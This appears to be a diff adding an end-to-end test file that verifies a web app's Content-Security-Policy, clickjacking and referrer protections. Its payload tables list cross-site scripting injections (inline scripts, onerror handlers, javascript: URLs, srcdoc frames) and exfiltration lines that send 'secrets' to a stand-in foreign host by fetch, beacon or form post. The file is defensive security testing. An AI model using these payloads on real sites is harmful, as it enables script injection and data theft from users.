@@ -1,0 +1,192 @@
+import { SEEDED_MESSAGE_GROUP_UUID } from '@cruddur/config/seed';
+import type { Browser, Page } from 'playwright-core';
+import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
+import { type ForeignOrigin, startForeignOrigin } from '../../support/foreign-origin.ts';
+import { launchBrowser } from '../support/browser.ts';
+import { message, signIn, type Visitor, visit, write } from '../support/people.ts';
+import { signUpPair } from '../support/sign-up.ts';
+import { SOON } from '../support/thread.ts';
+
+const THREAD = `/messages/${SEEDED_MESSAGE_GROUP_UUID}`;
+
+let browser: Browser;
+let elsewhere: ForeignOrigin;
+
+beforeAll(async () => {
+  [browser, elsewhere] = await Promise.all([
+    launchBrowser(),
+    startForeignOrigin(`<iframe src="${inject('webUrl')}/signin"></iframe>`),
+  ]);
+});
+
+afterAll(async () => {
+  await browser?.close();
+  elsewhere?.stop();
+});
+
+describe('under its Content-Security-Policy, the page', () => {
+  it('works without being stopped once', async () => {
+    const andrew = await visit(browser);
+    const { page, violations } = andrew;
+    for (const path of ['/signup', '/confirm', '/recover', '/nowhere']) {
+      await page.goto(path);
+      await page.getByRole('heading', { level: 1 }).first().waitFor();
+    }
+    await page.goto(THREAD);
+    await signIn(andrew, 'andrewbrown');
+    await page.getByRole('navigation', { name: 'Conversations' }).getByRole('link').first().waitFor();
+    await write(andrew, 'See https://example.com/harbour, at “seven”');
+    await message(andrew, 'https://example.com/harbour').waitFor();
+    await page.mouse.wheel(0, -4000);
+    await openEachOverlay(page);
+    expect(violations).toEqual([]);
+    await andrew.context.close();
+  });
+
+  it('works without being stopped for two people who sign up and write to each other', async () => {
+    const [ida, olaf] = await signUpPair(browser, ['Ida Weir', 'Olaf Brandt']);
+    await write(olaf, 'Good evening');
+    await message(ida, 'Good evening').waitFor(SOON);
+    expect([ida.violations, olaf.violations]).toEqual([[], []]);
+    await Promise.all([ida.context.close(), olaf.context.close()]);
+  });
+});
+
+/** Account menu with the theme, person picker, help. */
+async function openEachOverlay(page: Page): Promise<void> {
+  await page.getByRole('button', { name: 'Account' }).click();
+  await page.getByRole('menu').waitFor();
+  await page.keyboard.press('Escape');
+  await page.getByRole('button', { name: 'Write to somebody' }).click();
+  await page.getByRole('combobox', { name: 'Name or handle' }).fill('lon');
+  await page.getByRole('option', { name: /Londo Mollari/ }).waitFor();
+  await page.keyboard.press('Escape');
+  await expect.poll(() => page.getByRole('dialog').count(), SOON).toBe(0);
+  await page.keyboard.press('?');
+  await page.getByRole('dialog').waitFor();
+  await page.keyboard.press('Escape');
+}
+
+/** What an attacker might get into the document, and the directive that stops it. Each would set `window.ran`. */
+const MARKUP: [string, string, string][] = [
+  ['a script', '<script>window.ran = true</script>', 'script-src-elem'],
+  ['a script of elsewhere', '<script src="ELSEWHERE/x.js"></script>', 'script-src-elem'],
+  ['a script in a data URL', '<script src="data:text/javascript,window.ran=true"></script>', 'script-src-elem'],
+  ['an event handler', '<img src="/none.png" onerror="window.ran = true">', 'script-src-attr'],
+  ['a javascript: frame', '<iframe src="javascript:parent.ran=true"></iframe>', 'script-src-elem'],
+  ['a frame of its own making', '<iframe srcdoc="<script>parent.ran=true</script>"></iframe>', 'script-src-elem'],
+  ['a plug-in', '<object data="ELSEWHERE/x.swf"></object>', 'object-src'],
+  ['a base for every address', '<base href="ELSEWHERE/">', 'base-uri'],
+  ['a style that looks elsewhere', '<style>body { background: url(ELSEWHERE/x.png) }</style>', 'style-src-elem'],
+  ['an image of elsewhere', '<img src="ELSEWHERE/x.png">', 'img-src'],
+];
+
+/** What code that runs already might try, and the directive that stops it. */
+const CODE: [string, string, string][] = [
+  [
+    'add a script',
+    's = document.createElement("script"); s.text = "window.ran = true"; document.body.append(s)',
+    'require-trusted-types-for',
+  ],
+  ['write markup', 'document.body.innerHTML = "<img src=x onerror=window.ran=true>"', 'require-trusted-types-for'],
+  ['make code of text', 'window.setTimeout("window.ran = true")', 'require-trusted-types-for'],
+  [
+    'follow a javascript: link',
+    'a = document.createElement("a"); a.href = "javascript:window.ran=true"; document.body.append(a); a.click()',
+    'script-src-elem',
+  ],
+  [
+    'send what it has elsewhere',
+    'fetch("ELSEWHERE/stolen", { method: "POST", body: "secrets" }).catch(() => {})',
+    'connect-src',
+  ],
+  ['beacon it elsewhere', 'navigator.sendBeacon("ELSEWHERE/stolen", "secrets")', 'connect-src'],
+  [
+    'post a form elsewhere',
+    'f = document.createElement("form"); f.action = "ELSEWHERE/stolen"; f.method = "post"; document.body.append(f); f.submit()',
+    'form-action',
+  ],
+  ['start a worker', 'try { new Worker("data:text/javascript,fetch(1)") } catch {}', 'require-trusted-types-for'],
+];
+
+describe('under its Content-Security-Policy, an attacker', () => {
+  let visitor: Visitor;
+
+  beforeAll(async () => {
+    visitor = await visit(browser);
+  });
+
+  const ran = () => visitor.page.evaluate(() => 'ran' in window);
+
+  async function expectStopped(directive: string): Promise<void> {
+    await expect.poll(() => visitor.violations.map((violation) => violation.directive), SOON).toContain(directive);
+    expect(await ran()).toBe(false);
+    expect(elsewhere.asked).toEqual([]);
+  }
+
+  it.each(MARKUP)('who gets %s into the document gets nothing', async (_name, markup, directive) => {
+    const { page } = visitor;
+    const target = '**/signin';
+    await page.route(target, async (route) => {
+      const response = await route.fetch();
+      const body = (await response.text()).replace('<body>', `<body>${markup.replace('ELSEWHERE', elsewhere.url)}`);
+      await route.fulfill({ response, body });
+    });
+    visitor.violations.length = 0;
+    await page.goto('/signin');
+    await page.unroute(target);
+    await expectStopped(directive);
+  });
+
+  it.each(CODE)('whose code would %s cannot', async (_name, code, directive) => {
+    const { page } = visitor;
+    await page.goto('/signin');
+    await page.getByRole('heading', { level: 1 }).waitFor();
+    visitor.violations.length = 0;
+    // A file of the page's own origin: the last thing that may run.
+    await page.route('**/attack.js', (route) =>
+      route.fulfill({
+        contentType: 'text/javascript',
+        body: `{ let a, f, s; ${code.replace('ELSEWHERE', elsewhere.url)} }`,
+      }),
+    );
+    await page.evaluate(() => {
+      const policy = (
+        window as unknown as {
+          trustedTypes: { createPolicy(name: string, rules: object): { createScriptURL(url: string): string } };
+        }
+      ).trustedTypes;
+      const script = document.createElement('script');
+      script.src = policy
+        .createPolicy(`attack-${Math.random()}`, { createScriptURL: (url: string) => url })
+        .createScriptURL('/attack.js');
+      document.body.append(script);
+    });
+    await expectStopped(directive);
+    await page.unroute('**/attack.js');
+  });
+});
+
+describe('another site', () => {
+  it('cannot show the page in a frame', async () => {
+    const page = await browser.newPage();
+    await page.goto(elsewhere.url);
+    await expect.poll(() => page.frames()[1]?.url(), SOON).toBe('chrome-error://chromewebdata/');
+    await page.close();
+  });
+
+  it('is not told where a visitor comes from', async () => {
+    const { page, context } = await visit(browser);
+    const referrers: (string | undefined)[] = [];
+    page.on('request', async (request) => void referrers.push(request.headers().referer));
+    await page.goto(THREAD);
+    await page.getByRole('heading', { level: 1 }).waitFor();
+    elsewhere.asked.length = 0;
+    await page.evaluate((url) => window.location.assign(url), elsewhere.url);
+    await page.waitForURL(`${elsewhere.url}/`);
+    expect(elsewhere.asked[0]?.headers.referer).toBeUndefined();
+    expect(referrers.length).toBeGreaterThan(5);
+    expect(referrers.filter((referrer) => referrer?.startsWith(inject('webUrl')))).toEqual([]);
+    await context.close();
+  });
+});
